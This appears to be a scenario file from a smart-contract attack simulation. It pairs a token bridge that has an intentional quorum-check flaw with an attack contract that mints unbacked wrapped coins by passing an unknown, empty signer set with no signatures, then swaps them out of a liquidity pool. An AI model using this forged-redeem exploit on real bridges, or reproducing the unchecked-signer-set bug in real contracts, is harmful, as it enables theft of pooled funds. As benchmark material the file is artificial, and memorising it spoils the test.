// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Issues wrapped coins for messages under a quorum of signatures; a quorum of nobody is reached by nobody.
contract WrappedCoin is Token {
    constructor() Token("wCOIN", 18) {}

    function burn(address from, uint256 amount) external {
        require(msg.sender == minter, "minter");
        _burn(from, amount);
    }
}

contract GuardianBridge {
    WrappedCoin public immutable coin = new WrappedCoin();
    address public immutable guardian;
    mapping(uint256 => address[]) public sets;
    uint256 public current = 1;
    mapping(bytes32 => bool) public done;

    event Redeemed(bytes32 indexed message, address indexed to, uint256 amount);
    event Returned(address indexed from, uint256 amount);

    constructor(address guardian_) {
        guardian = guardian_;
        sets[1].push(guardian_);
    }

    /// The old way, for guardians that send by themselves.
    function attest(address to, uint256 amount, uint256 nonce) external {
        require(msg.sender == guardian, "guardian");
        _release(to, amount, nonce);
    }

    /// `set` is not compared with the current one, and an unknown set has no members.
    function redeem(address to, uint256 amount, uint256 nonce, uint256 set, bytes[] calldata signatures) external {
        address[] storage members = sets[set];
        require(signatures.length * 3 >= members.length * 2, "quorum");
        _release(to, amount, nonce);
    }

    function _release(address to, uint256 amount, uint256 nonce) private {
        bytes32 message = keccak256(abi.encode(to, amount, nonce));
        require(!done[message], "done");
        done[message] = true;
        coin.mint(to, amount);
        emit Redeemed(message, to, amount);
    }

    function sendBack(uint256 amount) external {
        coin.burn(msg.sender, amount);
        emit Returned(msg.sender, amount);
    }

    function arm(address user, uint256 amount, address spender) external {
        require(msg.sender == guardian, "guardian");
        coin.arm(user, amount, spender);
    }
}

contract BridgeForgedMessageScene is Scene {
    Token public usd;
    GuardianBridge public bridge;
    Pair public pair;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        bridge = new GuardianBridge(address(this));
        _asset(address(bridge.coin()), "wCOIN", 18, 1e6);
        pair = new Pair(IERC20(address(bridge.coin())), IERC20(address(usd)));
        bridge.attest(address(pair), 1_500_000e18, 0);
        usd.mint(address(pair), 1_500_000e18);
        pair.mint(address(this));
        _protect(address(bridge));
        _protect(address(bridge.coin()));
        _protect(address(pair));
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(bridge.coin()));
    }

    function enrol(address[] calldata users) external override {
        for (uint256 i; i < users.length; i++) bridge.arm(users[i], 200_000e18, address(pair));
        _arm(usd, users, 300_000e18, address(pair));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 amount = _amount(dice, 50e18, 3_000e18);
        uint256 held = bridge.coin().balanceOf(who);
        if (dice >> 200 & 3 == 0 && held > amount) return (address(bridge), 0, abi.encodeCall(GuardianBridge.sendBack, (amount)));
        (uint112 r0, uint112 r1,) = pair.getReserves();
        return (address(pair), 0, abi.encodeCall(Pair.trade, (r0 < r1, amount, who)));
    }

    /// The guardian delivers what was sent to us from the other side; its account is the scene's.
    function errand(uint256 dice) external view override returns (address, address, uint256, bytes memory) {
        address to = address(uint160(dice));
        return (address(this), address(bridge), 0, abi.encodeCall(GuardianBridge.attest, (to, _amount(dice, 50e18, 60_000e18), dice)));
    }
}

contract BridgeForgedMessageAttack is Attack {
    GuardianBridge private immutable bridge;
    Pair private immutable pair;

    constructor(BridgeForgedMessageScene scene) Attack(scene) {
        (bridge, pair) = (scene.bridge(), scene.pair());
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        uint256 amount = 12_000_000e18 / count;
        bridge.redeem(address(this), amount, 1e9 + index, 77, new bytes[](0));
        loot1.approve(address(pair), amount);
        pair.trade(true, amount, address(this));
    }
}
